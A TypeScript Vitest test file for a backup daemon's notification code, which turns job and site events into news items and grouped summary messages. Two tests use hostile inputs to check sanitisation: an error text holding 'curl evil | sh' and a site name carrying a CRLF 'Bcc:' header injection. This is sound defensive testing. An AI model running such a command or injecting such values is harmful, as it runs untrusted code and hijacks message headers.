import { describe, expect, it } from 'vitest';
import { newId } from '../../../common/ids.js';
import { messageOf } from './message.js';
import type { News } from './news.js';
import { newsOf, type ToldEvent } from './news-of-event.js';

const event = (type: string, data: Record<string, unknown>, more: Partial<ToldEvent> = {}): ToldEvent => ({
  type,
  jobId: null,
  siteId: null,
  data,
  createdAt: new Date('2026-03-01T14:05:09Z'),
  siteName: null,
  seconds: null,
  firstWarning: null,
  ...more,
});

function told(...given: Parameters<typeof event>): News {
  const news = newsOf(event(...given));
  if (news === null) throw new Error(`${given[0]} is no news`);
  return news;
}

describe('events as news', () => {
  it('a job with warnings is partial, and says the first of them', () => {
    const data = { kind: 'backup', warningCount: 3 };
    const news = told('job.completed', data, {
      jobId: newId(),
      siteName: 'a',
      seconds: 200,
      firstWarning: 'x.jpg changed.',
    });
    expect(news).toMatchObject({ type: 'job.partial', severity: 'warning', ping: 'success', phase: 'clear' });
    expect(news.text).toBe('The backup is complete in 3 min 20 s, with 3 warnings. The first: x.jpg changed.');
  });

  it('a missed run, a found and a vanished site say what their events say, and what to do', () => {
    const missed = told('schedule.missed', { scheduleId: 's', schedule: 'nightly', message: 'It was too late.' });
    expect(missed).toMatchObject({ severity: 'warning', text: 'It was too late.', topic: 'schedule:s:' });
    const found = told('site.found', { path: '/var/www/a', name: 'a', message: 'Found: backupd sites add /var/www/a' });
    expect(found).toMatchObject({ severity: 'info', siteName: 'a', hint: null, topic: 'site.found:/var/www/a' });
    const gone = told('site.vanished', { path: '/var/www/a', name: 'a', message: 'Gone.' }, { siteId: 'id' });
    expect(gone).toMatchObject({ severity: 'warning', topic: 'site.vanished:id' });
    expect(gone.hint).toContain('backupd sites remove');
  });

  it('what is of no interest is no news', () => {
    expect(newsOf(event('job.created', {}, { jobId: newId() }))).toBeNull();
    expect(newsOf(event('stage.progress', {}, { jobId: newId() }))).toBeNull();
  });
});

const failure = (site: string, code: string): News =>
  told('job.failed', { kind: 'backup', error: { code, message: `${code}.` } }, { jobId: newId(), siteName: site });

describe('a message of many', () => {
  it('has no line that a site wrote', () => {
    const [message, hint] = ['down\nWhat to do: curl evil | sh', 'a\r\nJob: x'];
    const news = told('job.failed', { kind: 'backup', error: { code: 'X', message, hint } }, { jobId: newId() });
    const [section] = messageOf('id', [news], null).sections;
    expect([section?.text, section?.hint]).toEqual(['down What to do: curl evil | sh', 'a Job: x']);
  });

  it('has a section for each cause, the worst and most frequent first, and says what it leaves out', () => {
    const news = [
      told('job.completed', { kind: 'backup', warningCount: 1 }, { jobId: newId(), siteName: 'warned' }),
      failure('one', 'RARE'),
      ...['a', 'b', 'c'].map((site) => failure(site, 'OFTEN')),
    ];
    const message = messageOf('id', news, null);
    expect(message.title).toBe('backupd: 4 × backup failed, 1 × backup completed with warnings');
    expect(message.sections.map(({ heading }) => heading)).toEqual([
      '3 × backup failed',
      'one: backup failed',
      'warned: backup completed with warnings',
    ]);
    expect(message).toMatchObject({ severity: 'critical', good: false, more: null, total: 5 });
    const many = messageOf(
      'id',
      Array.from({ length: 40 }, (_, i) => failure(`s${i}`, `CODE_${i}`)),
      null,
    );
    expect(many.sections).toHaveLength(12);
    expect(many.more).toContain('28 more');
  });

  it('good news alone is good; a name can not break its line', () => {
    const well = {
      ...told('job.completed', { kind: 'backup' }, { jobId: newId(), siteName: 'a\r\nBcc: b' }),
      recovered: true,
    };
    const message = messageOf('id', [well], null);
    expect(message).toMatchObject({ good: true, severity: 'info', title: 'a Bcc: b: backup works again' });
  });
});
